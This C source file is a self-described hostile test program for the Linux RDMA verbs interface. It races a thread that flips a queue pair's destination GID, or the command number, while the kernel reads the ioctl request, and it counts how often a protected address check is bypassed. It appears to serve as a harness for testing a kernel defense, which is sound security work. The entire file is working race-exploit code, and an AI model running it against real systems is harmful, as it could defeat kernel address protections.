// SPDX-License-Identifier: GPL-2.0-only OR Linux-OpenIB
/*
 * A hostile program: while one thread asks for an address that is protected, another one changes the address in the
 * command all the time. It counts the queue pairs that the kernel then has with another address.
 *
 *	verbs_flip DEVICE GID_INDEX BAD_IP ATTEMPTS [morph]
 *
 * With "morph" it asks for the unprotected address only. Another thread changes the command from REG_MR, which must
 * continue in the program, to MODIFY_QP and back. The program waits until each queue pair that got the address is taken
 * down.
 *
 * The protected address is that of the port (loopback). BAD_IP: IPv4, of the same form as that of the GID.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <infiniband/verbs.h>
#include <pthread.h>
#include <rdma/ib_user_ioctl_cmds.h>
#include <rdma/ib_user_verbs.h>
#include <rdma/rdma_user_ioctl.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>

#include "app.h"

enum { ATTRS = 2, WATCH_MS = 600000, PROGRESS = 100, PORT = 1, GID_LEN = 16, DRIVER_RXE = 14 };

struct attempt {
	struct ibv_context *context;
	struct ibv_qp *qp;
	union ibv_gid good, bad;
	int gid_index;
	struct ib_uverbs_modify_qp command; /* changed while the kernel reads it */
	/* header and attributes */
	uint8_t request[sizeof(struct ib_uverbs_ioctl_hdr) + ATTRS * sizeof(struct ib_uverbs_attr)]
		__attribute__((aligned(8)));
	bool morph;
	volatile uint64_t *number; /* of the command; `morph` changes it instead of the address */
	atomic_bool over;
};

struct counts {
	unsigned long refused, passed, unprotected, failed, taken_down;
	int64_t longest_ms; /* until it was taken down */
};

static void *flip(void *arg)
{
	struct attempt *a = arg;

	while (a->morph && !atomic_load(&a->over)) {
		*a->number = IB_USER_VERBS_CMD_MODIFY_QP;
		sched_yield();
		*a->number = IB_USER_VERBS_CMD_REG_MR;
		sched_yield();
	}
	while (!atomic_load(&a->over)) {
		memcpy((void *)a->command.dest.dgid, a->bad.raw, GID_LEN);
		sched_yield();
		memcpy((void *)a->command.dest.dgid, a->good.raw, GID_LEN);
		sched_yield();
	}
	return NULL;
}

static int reset(const struct attempt *a)
{
	struct ibv_qp_attr attr = { .qp_state = IBV_QPS_RESET };
	int err = ibv_modify_qp(a->qp, &attr, IBV_QP_STATE);

	attr = (struct ibv_qp_attr){ .qp_state = IBV_QPS_INIT, .port_num = PORT };
	if (!err)
		err = ibv_modify_qp(a->qp, &attr, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS);
	return err;
}

/* The request of libibverbs, in memory of this program. */
static void fill_request(struct attempt *a)
{
	const struct ib_uverbs_ioctl_hdr header = {
		.length = sizeof(a->request),
		.object_id = UVERBS_OBJECT_DEVICE,
		.method_id = UVERBS_METHOD_INVOKE_WRITE,
		.num_attrs = ATTRS,
		.driver_id = DRIVER_RXE,
	};
	const struct ib_uverbs_attr attrs[ATTRS] = {
		{ .attr_id = UVERBS_ATTR_CORE_IN,
		  .len = sizeof(a->command),
		  .flags = UVERBS_ATTR_F_MANDATORY,
		  .data = (uintptr_t)&a->command },
		{ .attr_id = UVERBS_ATTR_WRITE_CMD,
		  .len = sizeof(uint64_t),
		  .flags = UVERBS_ATTR_F_MANDATORY,
		  .data = IB_USER_VERBS_CMD_MODIFY_QP },
	};

	memcpy(a->request, &header, sizeof(header));
	memcpy(a->request + sizeof(header), attrs, sizeof(attrs));
	a->number = (uint64_t *)(a->request + sizeof(a->request) - sizeof(uint64_t));
}

static int modify(struct attempt *a)
{
	return ioctl(a->context->cmd_fd, RDMA_VERBS_IOCTL, a->request) ? errno : 0;
}

static void fill(struct attempt *a)
{
	a->command = (struct ib_uverbs_modify_qp){
		.qp_handle = a->qp->handle,
		.attr_mask = IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN,
		.qp_state = IBV_QPS_RTR,
		.path_mtu = IBV_MTU_1024,
		.dest_qp_num = a->qp->qp_num,
		.dest = { .sgid_index = (uint8_t)a->gid_index, .hop_limit = 64, .is_global = 1, .port_num = PORT },
	};
	memcpy(a->command.dest.dgid, a->morph ? a->bad.raw : a->good.raw, GID_LEN);
	fill_request(a);
}

static int64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

/* Waits until another process has moved the queue pair to ERR. */
static void await_end(struct attempt *a, struct counts *counts)
{
	const struct timespec moment = { .tv_nsec = 1000000 };
	int64_t began = now_ms(), took;
	struct ibv_qp_init_attr init;
	struct ibv_qp_attr attr;

	do {
		nanosleep(&moment, NULL);
		took = now_ms() - began;
		attr.qp_state = IBV_QPS_RTR;
	} while (!ibv_query_qp(a->qp, &attr, IBV_QP_STATE, &init) && attr.qp_state != IBV_QPS_ERR && took < WATCH_MS);
	if (attr.qp_state != IBV_QPS_ERR)
		return;
	counts->taken_down++;
	if (took > counts->longest_ms)
		counts->longest_ms = took;
}

static void look(struct attempt *a, struct counts *counts)
{
	struct ibv_qp_init_attr init;
	struct ibv_qp_attr attr = { 0 };

	if (ibv_query_qp(a->qp, &attr, IBV_QP_AV | IBV_QP_STATE, &init)) {
		counts->failed++;
		return;
	}
	counts->passed++;
	if (!memcmp(attr.ah_attr.grh.dgid.raw, a->good.raw, GID_LEN))
		return;
	counts->unprotected++;
	if (a->morph)
		await_end(a, counts);
}

static int attempt_all(struct attempt *a, unsigned long attempts, struct counts *counts)
{
	pthread_t flipper;
	int err = 0;

	fill(a);
	if (pthread_create(&flipper, NULL, flip, a))
		return EAGAIN;
	for (unsigned long i = 0; !err && i < attempts; i++) {
		int refused;

		err = reset(a);
		if (err)
			break;
		refused = modify(a);
		if (refused)
			counts->refused++;
		else
			look(a, counts);
		if ((i + 1) % PROGRESS == 0)
			printf("%lu attempts\n", i + 1);
	}
	atomic_store(&a->over, true);
	pthread_join(flipper, NULL);
	return err;
}

static struct ibv_context *open_named(const char *name)
{
	struct ibv_device **list = ibv_get_device_list(NULL);
	struct ibv_context *context = NULL;

	for (size_t i = 0; list && list[i]; i++)
		if (!strcmp(ibv_get_device_name(list[i]), name))
			context = ibv_open_device(list[i]);
	if (list)
		ibv_free_device_list(list);
	return context;
}

static int prepare(struct attempt *a, const char *device, const char *bad)
{
	struct ibv_qp_init_attr init = {
		.qp_type = IBV_QPT_UC,
		.cap = { .max_send_wr = 1, .max_recv_wr = 1, .max_send_sge = 1, .max_recv_sge = 1 }
	};
	struct ibv_pd *pd;

	a->context = open_named(device);
	if (!a->context || ibv_query_gid(a->context, PORT, a->gid_index, &a->good))
		return ENODEV;
	a->bad = a->good;
	if (inet_pton(AF_INET, bad, a->bad.raw + GID_LEN - 4) != 1)
		return EINVAL;
	pd = ibv_alloc_pd(a->context);
	init.send_cq = init.recv_cq = pd ? ibv_create_cq(a->context, 4, NULL, NULL, 0) : NULL;
	a->qp = init.send_cq ? ibv_create_qp(pd, &init) : NULL;
	return a->qp ? 0 : errno ? errno : EIO;
}

int main(int argc, char **argv)
{
	static struct attempt a;
	struct counts counts = { 0 };
	int err;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 5 && argc != 6) {
		fprintf(stderr, "usage: verbs_flip DEVICE GID_INDEX BAD_IP ATTEMPTS [morph]\n");
		return 2;
	}
	a.gid_index = atoi(argv[2]);
	a.morph = argc == 6;
	err = prepare(&a, argv[1], argv[3]);
	if (!err)
		err = attempt_all(&a, strtoul(argv[4], NULL, 10), &counts);
	printf("refused %lu passed %lu unprotected %lu failed %lu\n", counts.refused, counts.passed, counts.unprotected,
	       counts.failed);
	if (a.morph)
		printf("taken down %lu, the longest after %lld ms\n", counts.taken_down, (long long)counts.longest_ms);
	if (err)
		complain(err, "cannot continue");
	return err ? 1 : 0;
}
